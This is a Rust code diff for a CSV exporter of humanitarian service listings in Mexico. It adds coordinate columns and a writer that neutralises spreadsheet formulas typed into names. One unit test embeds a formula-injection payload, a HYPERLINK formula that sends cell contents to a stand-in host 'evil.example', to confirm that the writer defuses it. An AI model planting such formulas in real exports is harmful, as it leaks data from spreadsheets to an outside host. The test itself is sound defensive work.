@@ -3,6 +3,7 @@
 //! row for people, a hashtag row for machines, then one row per service and
 //! sector. The CI checks the file with libhxl against a schema.
 
+use crate::csv_out::{Cell, SafeCsvWriter};
 use acoge_domain::service::{Service, ServiceStatus};
 
 /// One service with the names a table shows beside it.
@@ -14,7 +15,7 @@ pub struct ServiceRow<'a> {
     pub state_name: &'a str,
 }
 
-const COLUMNS: [(&str, &str); 14] = [
+const COLUMNS: [(&str, &str); 16] = [
     ("Organización", "#org +name"),
     ("Id de la organización", "#org +id"),
     ("Tipo de organización", "#org +type"),
@@ -29,41 +30,46 @@ const COLUMNS: [(&str, &str); 14] = [
     ("Estado del servicio", "#status"),
     ("Fuentes", "#meta +source"),
     ("Verificado", "#meta +verified"),
+    ("Latitud", "#geo +lat"),
+    ("Longitud", "#geo +lon"),
 ];
 
 /// The table as CSV text. One row per sector of each service, as 3W tables
-/// count presence per sector.
+/// count presence per sector. Names are as members typed them, so the
+/// writer defuses any that could start a spreadsheet formula.
 pub fn services_csv(rows: &[ServiceRow<'_>]) -> Result<String, csv::Error> {
-    let mut writer = csv::Writer::from_writer(Vec::new());
-    writer.write_record(COLUMNS.map(|(label, _)| label))?;
-    writer.write_record(COLUMNS.map(|(_, tag)| tag))?;
+    let mut writer = SafeCsvWriter::in_memory();
+    writer.write_text_row(COLUMNS.map(|(label, _)| label))?;
+    writer.write_text_row(COLUMNS.map(|(_, tag)| tag))?;
     for row in rows {
         let s = row.service;
         let status = match s.status {
             ServiceStatus::Active => "activo",
             ServiceStatus::Closed(_) => "cerrado",
         };
+        let coordinates = s.location.coordinates.as_ref();
         for sector in &s.sectors {
-            writer.write_record([
-                row.organization_name,
-                &s.organization_id.to_string(),
-                row.organization_kind,
-                &s.name,
-                &s.id.to_string(),
-                sector.slug(),
-                s.location.cvegeo.state().as_str(),
-                row.state_name,
-                s.location.cvegeo.as_str(),
-                row.municipality_name,
-                s.cost.slug(),
-                status,
-                &s.provenance.joined_sources(),
-                if s.provenance.verified { "si" } else { "no" },
+            writer.write_row([
+                Cell::text(row.organization_name),
+                Cell::text(s.organization_id.to_string()),
+                Cell::text(row.organization_kind),
+                Cell::text(s.name.as_str()),
+                Cell::text(s.id.to_string()),
+                Cell::text(sector.slug()),
+                Cell::text(s.location.cvegeo.state().as_str()),
+                Cell::text(row.state_name),
+                Cell::text(s.location.cvegeo.as_str()),
+                Cell::text(row.municipality_name),
+                Cell::text(s.cost.slug()),
+                Cell::text(status),
+                Cell::text(s.provenance.joined_sources()),
+                Cell::text(if s.provenance.verified { "si" } else { "no" }),
+                Cell::number(coordinates.map(|c| c.lat)),
+                Cell::number(coordinates.map(|c| c.lon)),
             ])?;
         }
     }
-    let bytes = writer.into_inner().map_err(|e| e.into_error())?;
-    Ok(String::from_utf8_lossy(&bytes).into_owned())
+    writer.into_string()
 }
 
 #[cfg(test)]
@@ -71,6 +77,7 @@ mod tests {
     use super::*;
     use acoge_domain::{
         Cvegeo, Provenance,
+        geo::Coordinates,
         practice::Sector,
         service::{ServiceCost, ServiceLocation},
     };
@@ -123,6 +130,53 @@ mod tests {
             lines[2].contains("\"Atención, \"\"médica\"\"\""),
             "quoted as CSV"
         );
-        assert!(lines[2].ends_with("https://example.org/a | https://example.org/b,no"));
+        assert!(
+            lines[2].ends_with("https://example.org/a | https://example.org/b,no,,"),
+            "no coordinates: empty cells"
+        );
+    }
+
+    #[test]
+    fn a_formula_for_a_name_is_defused_and_coordinates_stay_numbers() {
+        let service = Service {
+            id: Uuid::now_v7(),
+            organization_id: Uuid::now_v7(),
+            name: "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")".into(),
+            description: String::new(),
+            sectors: vec![Sector::Health],
+            populations: vec![],
+            eligibility: String::new(),
+            languages: vec![],
+            cost: ServiceCost::Free,
+            hours: String::new(),
+            how_to_access: String::new(),
+            capacity: None,
+            location: ServiceLocation {
+                cvegeo: Cvegeo::parse("07089").unwrap(),
+                address: None,
+                coordinates: Some(Coordinates::in_mexico(14.9, -92.26).unwrap()),
+            },
+            status: ServiceStatus::Active,
+            last_verified: None,
+            provenance: Provenance {
+                sources: vec![],
+                verified: false,
+            },
+        };
+        let csv = services_csv(&[ServiceRow {
+            service: &service,
+            organization_name: "@Casa",
+            organization_kind: "albergue",
+            municipality_name: "Tapachula",
+            state_name: "Chiapas",
+        }])
+        .unwrap();
+        let row = csv.lines().nth(2).unwrap();
+        assert!(row.starts_with("'@Casa,"), "{row}");
+        assert!(
+            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Ver\"\")\","),
+            "{row}"
+        );
+        assert!(row.ends_with(",no,14.9,-92.26"), "{row}");
     }
 }
